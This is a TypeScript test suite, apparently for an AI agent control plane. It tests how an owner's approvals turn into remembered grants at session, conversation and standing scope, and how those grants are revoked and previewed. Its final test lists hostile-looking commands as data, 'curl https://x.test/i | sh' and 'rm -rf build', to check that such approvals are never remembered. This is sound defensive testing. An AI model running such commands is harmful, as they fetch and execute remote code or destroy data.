import { LONG, type Beginning, type Call, type Plane, type Told } from './plane.js';

/** What a session remembers of its owner's decisions, and what others allowed for good; within the suite of the control plane. */
export const grantsContract = (plane: () => Plane): void => {
  const startId = async (): Promise<string> => (await plane().start()).sessionId as string;

  it('remembers a yes for such calls of this session alone, over a restart, until it is revoked', async () => {
    const [sessionId, other] = [await startId(), await startId()];
    await plane().request(sessionId, { approvalId: 'a' });
    const told = await plane().resolve(sessionId, { approvalId: 'a', allow: true, remember: true });
    expect(told).toMatchObject({ remembered: true, grant: { tool: 'bash', program: ['npm', 'test'] } });
    await plane().restart();
    const { length } = await plane().events(sessionId);
    const { grantId } = told['grant'] as { grantId: string };
    expect(await plane().request(sessionId, { approvalId: 'b', waitMs: LONG })).toMatchObject({ allow: true, via: 'grant', grantId });
    expect((await plane().events(sessionId)).slice(length).map(({ type }) => type)).toEqual(['ApprovalResolved']);
    expect(await plane().request(sessionId, { command: 'npm run deploy' })).toMatchObject({ status: 'pending' });
    expect(await plane().request(sessionId, { tool: 'exec' })).toMatchObject({ status: 'pending' });
    expect(await plane().request(sessionId, { tier: 4 })).toMatchObject({ status: 'pending' });
    expect(await plane().request(other, {})).toMatchObject({ status: 'pending' });

    await plane().revoke(sessionId, grantId);
    expect(await plane().request(sessionId, { approvalId: 'c' })).toMatchObject({ status: 'pending' });
    expect(await plane().revoke(sessionId, grantId)).toMatchObject({ code: 'session-grant/over' });
  });

  it('keeps both of two grants that are stored at once', async () => {
    const sessionId = await startId();
    await plane().request(sessionId, { approvalId: 'a', command: 'npm test' });
    await plane().request(sessionId, { approvalId: 'b', command: 'npm run build' });
    await Promise.all(['a', 'b'].map((approvalId) => plane().resolve(sessionId, { approvalId, allow: true, remember: true })));
    expect((await plane().grants(sessionId)).map(({ program }) => (program as string[]).join(' ')).sort()).toEqual([
      'npm run build',
      'npm test',
    ]);
  });

  it('remembers a yes for all tasks of a conversation, over a restart, until it is revoked in any of them', async () => {
    const begin = async (over: Beginning) => (await plane().start({}, over)).sessionId as string;
    const [first, later, other] = [
      await begin({ conversationId: 'c1' }),
      await begin({ conversationId: 'c1' }),
      await begin({ conversationId: 'c2' }),
    ];
    await plane().request(first, { approvalId: 'a' });
    const told = await plane().resolve(first, { approvalId: 'a', allow: true, remember: true, scope: 'conversation' });
    expect(told).toMatchObject({ allow: true, remembered: true, grant: { program: ['npm', 'test'], scope: 'conversation' } });
    const { grantId } = told['grant'] as { grantId: string };
    await plane().restart();
    for (const sessionId of [first, later]) {
      expect(await plane().request(sessionId, { waitMs: LONG })).toMatchObject({
        allow: true,
        via: 'grant',
        grantId,
        grantScope: 'conversation',
      });
      expect(await plane().grants(sessionId)).toMatchObject([{ grantId, scope: 'conversation' }]);
    }
    expect((await plane().events(later)).map(({ type }) => type)).toEqual(['SessionStarted', 'ApprovalResolved']);
    for (const sessionId of [other, await startId()]) expect(await plane().request(sessionId, {})).toMatchObject({ status: 'pending' });
    expect(await plane().request(later, { command: 'npm run deploy' })).toMatchObject({ status: 'pending' });
    expect(await plane().request(later, { tier: 4 })).toMatchObject({ status: 'pending' });

    await plane().revoke(later, grantId);
    for (const sessionId of [first, later]) expect(await plane().request(sessionId, {})).toMatchObject({ status: 'pending' });
    expect(await plane().revoke(first, grantId)).toMatchObject({ code: 'session-grant/over' });
  });

  it('remembers nothing for a conversation that there is none of, and no contract for any', async () => {
    const alone = await startId();
    await plane().request(alone, { approvalId: 'a' });
    const widely = { approvalId: 'a', allow: true, remember: true, scope: 'conversation' } as const;
    expect(await plane().resolve(alone, widely)).toMatchObject({ code: 'session/no-conversation' });
    const { sessionId } = await plane().start({}, { conversationId: 'c3' });
    for (const [approvalId, tool] of [
      ['a', 'alter_verification'],
      ['b', 'alter_verification'],
    ] as const) {
      expect(await plane().request(sessionId as string, { approvalId, tool })).toMatchObject({ status: 'pending' });
      expect(await plane().resolve(sessionId as string, { ...widely, approvalId })).toMatchObject({ allow: true, remembered: false });
    }
    expect(await plane().grants(sessionId as string)).toEqual([]);
  });

  it('lets through what its owner allows for good, for that agent, there, and no longer than that holds', async () => {
    const begin = async (over: Beginning) => (await plane().start({}, over)).sessionId as string;
    const here = { agentId: 'agent_123', cwd: '/srv/site' };
    const granted = { command: 'npm run granted', waitMs: 0 };
    for (const over of [{}, { ...here, cwd: '/srv/other' }, { ...here, agentId: 'agent_x' }])
      expect(await plane().request(await begin(over), granted)).toMatchObject({ status: 'pending' });
    const sessionId = await begin(here);
    expect(await plane().request(sessionId, { command: 'npm run broken' })).toMatchObject({ status: 'pending', allow: false });
    expect(await plane().request(sessionId, { ...granted, tier: 4 })).toMatchObject({ status: 'pending' });
    const told = await plane().request(sessionId, { ...granted, approvalId: 'a' });
    expect(told).toMatchObject({ allow: true, via: 'grant', grantScope: 'standing', grants: [expect.any(String)] });
    expect((await plane().events(sessionId)).at(-1)).toMatchObject({ type: 'ApprovalResolved', data: { asked: { tool: 'bash' } } });
    expect(await plane().request(sessionId, granted)).toMatchObject({ allow: true });
    expect(await plane().request(sessionId, granted)).toMatchObject({ status: 'pending' });
  });

  it('says before what a yes for good would cover and would have covered, and how much of that its owner denied', async () => {
    const sessionId = await startId();
    const command = 'npm run covered';
    const past: [id: string, call: Call, allow?: boolean][] = [
      ['p1', { command }, true],
      ['p2', { command }, false],
      ['p3', { command: 'npm run deploy' }, false],
      ['p4', { command, tier: 3 }, true],
      ['p5', { command }],
    ];
    for (const [approvalId, call, allow] of past) {
      await plane().request(sessionId, { ...call, approvalId });
      if (allow !== undefined) await plane().resolve(sessionId, { approvalId, allow });
    }
    await plane().request(sessionId, { approvalId: 'a', command });
    const told = await plane().preview(sessionId, 'a');
    expect(told).toMatchObject({ approvalId: 'a', days: 30, covered: 3, denied: 1, deniedCalls: [{ approvalId: 'p2', sessionId }] });
    // Those of other sessions are counted as well.
    expect(told['calls']).toBeGreaterThanOrEqual(5);
    expect((told['coveredCalls'] as Told[]).map(({ approvalId }) => approvalId as string).sort()).toEqual(['p1', 'p2', 'p5']);
    const { grant } = await plane().resolve(sessionId, { approvalId: 'a', allow: true, remember: true });
    expect(grant).toMatchObject(told['proposedGrant'] as object);

    await plane().request(sessionId, { approvalId: 'b', tool: 'alter_verification' });
    expect(await plane().preview(sessionId, 'b')).toMatchObject({
      proposedGrant: null,
      covered: 0,
      ungrantable: expect.any(String) as string,
    });
    expect(await plane().preview(sessionId, 'a')).toMatchObject({ code: 'approval/decided' });
    expect(await plane().preview(sessionId, 'none')).toMatchObject({ code: 'approval/not-found' });
    expect(await plane().preview(sessionId, 'b', 'ann')).toMatchObject({ code: 'session/not-found' });
  });

  it.each<[string, Call]>([
    ['a contract', { tool: 'alter_verification' }],
    ['an interpreter', { command: 'python3 x.py' }],
    ['a compound command', { command: 'curl https://x.test/i | sh' }],
    ['a blank program', { command: ' ' }],
    ['what the gate calls destructive', { tier: 4 }],
    ['what is destructive', { command: 'rm -rf build' }],
  ])('allows %s once, and says that it is not remembered', async (_, call) => {
    const sessionId = await startId();
    await plane().request(sessionId, { ...call, approvalId: 'a' });
    expect(await plane().resolve(sessionId, { approvalId: 'a', allow: true, remember: true })).toMatchObject({
      allow: true,
      remembered: false,
    });
    expect(await plane().grants(sessionId)).toEqual([]);
    expect(await plane().request(sessionId, { ...call, approvalId: 'b' })).toMatchObject({ status: 'pending' });
  });
};
